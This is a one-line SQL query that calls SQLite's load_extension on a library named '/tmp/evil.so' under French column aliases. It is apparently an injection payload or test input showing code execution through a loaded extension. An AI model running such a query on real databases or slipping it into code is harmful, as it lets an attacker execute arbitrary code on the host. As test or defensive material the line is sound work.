SELECT load_extension('/tmp/evil.so') AS nom, 0 AS reste;
